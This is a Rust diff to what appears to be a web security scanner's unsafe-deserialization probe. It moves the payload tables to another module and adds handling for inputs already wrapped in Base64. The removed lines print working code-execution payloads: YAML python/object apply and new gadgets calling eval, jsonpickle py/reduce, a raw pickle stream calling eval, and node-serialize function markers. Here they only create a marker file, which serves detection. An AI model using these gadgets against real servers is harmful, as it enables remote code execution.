@@ -3,15 +3,16 @@
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 
+use crate::arguments::Wrap;
+use crate::attack::saved::{FORMS, PACKED};
 use crate::attack::{
     Attack, Form, Nonce, Payload, deliver, everywhere, gets_through, nothing_else, shot,
 };
 use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
-use crate::evidence::Profile::{Deep, Quick, Standard};
 use crate::evidence::{Evidence, Exchange};
 use crate::probe::{Call, Lane, Probe};
 use crate::probes::{benign, valid_call};
-use crate::proof::{Oracle, Proof, payload};
+use crate::proof::{Proof, payload};
 use crate::response::quote;
 use crate::seed::Seed;
 use crate::spec::served;
@@ -32,68 +33,6 @@ pub(super) const CHECK: Check = Check {
 const PROBE: Probe =
     Probe { id: "unsafe-deserialization", hostile: true, lane: Lane::Shared, plan };
 
-/// Leaves a file, whose name has to be computed, where the server works, and yields that name.
-macro_rules! python {
-    () => {
-        "[open('«L»'+str(«M»)+'«R»','w').close(),'«L»'+str(«M»)+'«R»'][1]"
-    };
-}
-
-const FORMS: &[Form] = &[
-    Form::new(
-        "YAML",
-        Quick,
-        concat!("sample: !!python/object/apply:builtins.eval [\"", python!(), "\"]"),
-        ran,
-    ),
-    Form::new(
-        "YAML, alone",
-        Standard,
-        concat!("!!python/object/apply:eval [\"", python!(), "\"]"),
-        ran,
-    ),
-    Form::computed(
-        "JavaScript",
-        Quick,
-        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
-    ),
-    Form::new(
-        "YAML, new",
-        Deep,
-        concat!("sample: !!python/object/new:eval [\"", python!(), "\"]"),
-        ran,
-    ),
-    Form::computed(
-        "YAML, JavaScript",
-        Deep,
-        "sample: !!js/function \"function(){return '«L»'+(«M»)+'«R»'}()\"",
-    ),
-    Form::new(
-        "JSON, Python",
-        Deep,
-        concat!(
-            "{\"py/reduce\":[{\"py/function\":\"builtins.eval\"},{\"py/tuple\":[\"",
-            python!(),
-            "\"]}]}"
-        ),
-        ran,
-    ),
-];
-
-/// Those that travel in Base64.
-const PACKED: &[Form] = &[
-    Form::new("pickle", Quick, concat!("c__builtin__\neval\n(V", python!(), "\ntR."), ran),
-    Form::computed(
-        "JavaScript in Base64",
-        Deep,
-        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
-    ),
-];
-
-fn ran(n: &Nonce<'_>) -> Option<Oracle> {
-    Some(Oracle::Any { of: vec![n.computed(), n.appears()] })
-}
-
 fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
     let profile = evidence.conditions.profile;
     let mut calls = deliver(evidence, seed, PROBE.id, FORMS);
@@ -101,7 +40,9 @@ fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
         let due = PACKED.iter().filter(|form| form.least <= profile);
         let call = |form: &Form| {
             let nonce = Nonce::new(evidence, tool, &tried.place, PROBE.id, form.name, seed);
-            let value = STANDARD.encode(nonce.fill(form.text)?).into();
+            let text = nonce.fill(form.text)?;
+            let packed = tried.place.wrap == Wrap::Base64;
+            let value = if packed { text } else { STANDARD.encode(text) }.into();
             let payload = Payload { value, oracle: (form.oracle)(&nonce)? };
             shot(evidence, tool, tried, PROBE.id, form.name, &payload)
         };
